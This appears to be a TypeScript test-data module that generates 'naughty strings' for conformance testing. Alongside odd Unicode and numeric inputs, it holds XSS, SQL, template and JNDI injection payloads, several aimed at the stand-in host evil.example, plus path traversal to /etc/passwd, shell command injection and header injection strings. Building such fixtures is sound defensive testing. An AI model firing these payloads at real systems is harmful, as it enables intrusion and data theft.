import { readFileSync } from 'node:fs'

/** Text that breaks programs, and how it was generated. */
export type NaughtyString = Readonly<{ kind: string; text: string }>

const code = (...points: readonly number[]) => String.fromCodePoint(...points)
/** Every nth character between two. */
const span = (first: number, last: number, step = 1) =>
  Array.from({ length: Math.floor((last - first) / step) + 1 }, (_, index) =>
    code(first + index * step),
  )
/** Each text in the place of the '…' of each of its surroundings. */
const within = (surroundings: readonly string[], inner: readonly string[]) =>
  surroundings.flatMap((around) => inner.map((text) => around.split('…').join(text)))

/** Scripts that a page must never run. They would be visible: a dialog, a title or an unknown property. */
const SCRIPTS = [
  'alert(1)',
  'document.title="taken"',
  'globalThis.isTaken=1',
  'fetch("https://evil.example/")',
]

const RULES: Readonly<Record<string, readonly string[]>> = {
  'reserved words': [
    ...['undefined', 'null', 'nil', 'none', 'true', 'false', 'NaN', 'Infinity', '-Infinity'],
    ...['undef', 'NULL', '(null)', '[object Object]', 'function(){}', 'class', 'new', 'this'],
    ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', 'then'],
    ...['CON', 'PRN', 'AUX', 'NUL', 'COM1', 'LPT1', 'default', 'localhost', 'admin', 'root'],
  ],
  'like a number': [
    ...['0', '-0', '00', '1', '-1', '1.', '.5', '1e5', '1E400', '1e-400', '0x1F', '0b11', '0o17'],
    ...[
      '1,000',
      '1.000,00',
      '1 000',
      '1_000',
      '１２３',
      '١٢٣',
      '½',
      'Ⅷ',
      '²',
      '$1.00',
      '1/0',
      '--1',
    ],
    ...['9007199254740993', '-9223372036854775809', '18446744073709551616', '1'.repeat(60)],
    ...['2026-02-30', '0000-00-00', '1e3e3', '0x', '+', '-', '.', '..', '1;', '4e', 'Infinityx'],
  ],
  'white space': [
    ...span(0x2000, 0x200f),
    ...['\t', '\n', '\r\n', '\v', '\f', ' ', '\u00a0', '\u0085', '\u1680', '\u2028', '\u2029'],
    ...['\u202f', '\u205f', '\u3000', '\ufeff', '\u180e', '\u00ad', '\u034f', '\u2800', '\u3164'],
    ...[' leading', 'trailing ', 'a\u2028b\u2029c'],
  ],
  'control characters': [
    ...span(0x00, 0x1f).map((sign) => `a${sign}b`),
    ...span(0x7f, 0x9f, 4).map((sign) => `a${sign}b`),
    ...['\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u0000', 'cut\u0000here'],
  ],
  'not characters': [
    ...[0xfffe, 0xffff, 0xfdd0, 0xfdef, 0x1fffe, 0x10ffff, 0xfffd, 0xfff9, 0xfffc, 0xe0001].map(
      (point) => `a${code(point)}b`,
    ),
    ...['\ud800', '\udc00', 'a\ud83d', '\ude00b', '\udc00\ud800'],
    ...[0xe000, 0xf8ff, 0xf0000, 0x10fffd].map((point) => code(point)),
  ],
  'both directions': within(
    ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'].map(
      (mark) => `${mark}…`,
    ),
    ['abc', 'אבג 123 abc', 'exe.fdp'],
  ),
  'marks upon marks': [4, 40, 400].flatMap((count) => [
    ...[`Z${span(0x300, 0x36f).join('').repeat(4).slice(0, count)}a`, `e${'\u0301'.repeat(count)}`],
    ...[`ก${'\u0e49'.repeat(count)}`, `ع${'\u0651'.repeat(count)}`],
  ]),
  scripts: [
    ...[
      '表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀',
      'Ω≈ç√∫˜µ≤≥÷',
      'ЁЂЃЄЅІЇЈЉЊ',
      '田中さんにあげて',
      'パーティー',
      '사회과학원',
      '𝕋𝕙𝕖 𝓺𝓾𝓲𝓬𝓴',
    ],
    ...['⒯⒣⒠', 'ʇǝxʇ', 'ﷺ', '﷽', 'ẞßſ', 'İıI', 'ﬁﬂﬀ', 'Ǆǅǆ', 'ΣΌΣ', 'தமிழ்', 'ᚠᛇᚻ', '𐎠𐎡', '𓂀𓀀'],
    ...['꧁꧂', '⣿⠿', '\u0061\u030a', '\u00c5\u212b', 'सं', 'ꙮ', '܀ܐ', '𞤀', 'ᄀᄀᄀ각ᆨᆨ'],
  ],
  emoji: [
    ...['😀', '👩‍👩‍👧‍👦', '👨🏽‍🚒', '🏳️‍🌈', '🇩🇪', '🇩', '1️⃣', '☠️', '👋🏿👋🏻', '🏴󠁧󠁢󠁷󠁬󠁳󠁿', '❤️‍🔥', '🫨'],
    ...span(0x1f600, 0x1f64f, 8),
    ...['👍'.repeat(40), '👩‍'.repeat(20)],
  ],
  SQL: within(
    ["'…", '"…', '\\…', "1' … --", "'; …; --", '1) … /*'],
    ['', 'or 1=1', 'drop table calls', 'union select 1', "||'", 'waitfor delay'],
  ),
  HTML: within(
    ['…', '"…', "'>…", '</textarea>…', '</title></script>…', '<!--…-->', '<![CDATA[…]]>'],
    [
      ...['<b>bold</b>', '<h1>', '&lt;b&gt;', '&#0;&#x110000;', '<a href=//evil.example>x</a>'],
      ...['<style>*{display:none}</style>', '<base href=//evil.example>', '<plaintext>'],
      '<meta http-equiv=refresh content=0;url=//evil.example>',
    ],
  ),
  script: [
    ...within(
      [
        ...['<script>…</script>', '"><script>…</script>', '<ScRiPt >…</sCrIpT >'],
        ...["<img src=x onerror='…'>", "<svg onload='…'>"],
        ...['<iframe srcdoc="<script>parent.…</script>">', "<details open ontoggle='…'>"],
        ...["<input autofocus onfocus='…'>", 'javascript:…', 'JaVaScRiPt\t:…//'],
        ...['data:text/html,<script>…</script>', "'-…-'", '`;…//', '</script><script>…//'],
        ...[
          '\\u003cscript\\u003e…',
          '＜script＞…＜/script＞',
          '<math><mtext><img src=x onerror=…>',
        ],
      ],
      SCRIPTS,
    ),
  ],
  template: [
    ...['{{7*7}}', '#{7*7}', '<%= 7*7 %>', '{%print(7*7)%}', '$(id)', '`id`', '%n%n%n%s'],
    ...within(['$…'], ['{7*7}', '{jndi:ldap://evil.example/a}', '{{7}}']),
    ...['{{constructor.constructor("alert(1)")()}}', '@{7*7}', '%d %s %x %p', '{0}', '$&', '$1'],
    ...["$'", '$`', '\\1', '[[7*7]]', '*{7*7}', '~{7*7}', '%%20'],
  ],
  path: [
    ...['../../../../etc/passwd', '..\\..\\windows\\win.ini', '/dev/null', '/dev/zero'],
    ...['C:\\con\\con', '%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc', '....//....//etc'],
    ...['file:///etc/passwd', '\\\\server\\share', '~root', '.', '..', '/', '//', 'a/../b'],
    ...['aux.txt', 'a\u0000.png', '-rf /'],
  ],
  'commands and headers': [
    ...['; id', '| id', '&& id', '$(touch /tmp/taken)', '`touch /tmp/taken`', '\n/bin/id'],
    ...['--help', 'a\r\nSet-Cookie: visitor=taken', 'a\nLocation: //evil.example'],
    ...['%0d%0aX-Taken: 1', '{"type":"answer"}', '"}],"tier":"premium"'],
    ...['data: {"type":"done"}\n\n', 'event: done', ']]>', '(a+)+$', '^(a|a)*$', '(', '[', '\\'],
    ...['*', '?', '(?<=a)', '.*'.repeat(20), '=1+1', '@SUM(1)'],
    ...['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>', '*)(uid=*', "' or '1'='1"],
    '\\x00\\xff',
  ],
  'very long': [
    ...['a', ' ', '\n', '<', '"', '😀', '\u0301', '\u202e', 'ﷺ', '%00', 'a b ', '-', '()'].flatMap(
      (text) => [text.repeat(300), text.repeat(5_000)],
    ),
    ...['word '.repeat(2_000), 'x'.repeat(100_000)],
  ],
}

const OURS: readonly NaughtyString[] = Object.entries(RULES).flatMap(([kind, texts]) =>
  [...new Set(texts)].map((text) => ({ kind, text })),
)

function readList(path: string): readonly NaughtyString[] {
  const texts: readonly string[] = JSON.parse(readFileSync(path, 'utf8'))
  return texts.map((text, index) => ({ kind: `text ${index} of the list`, text }))
}

/**
 * Some 500 texts that break programs, by kind, always the same; or those of another list, which
 * `npm run conformance` names.
 */
export const NAUGHTY_STRINGS: readonly NaughtyString[] =
  process.env.NAUGHTY_LIST === undefined ? OURS : readList(process.env.NAUGHTY_LIST)
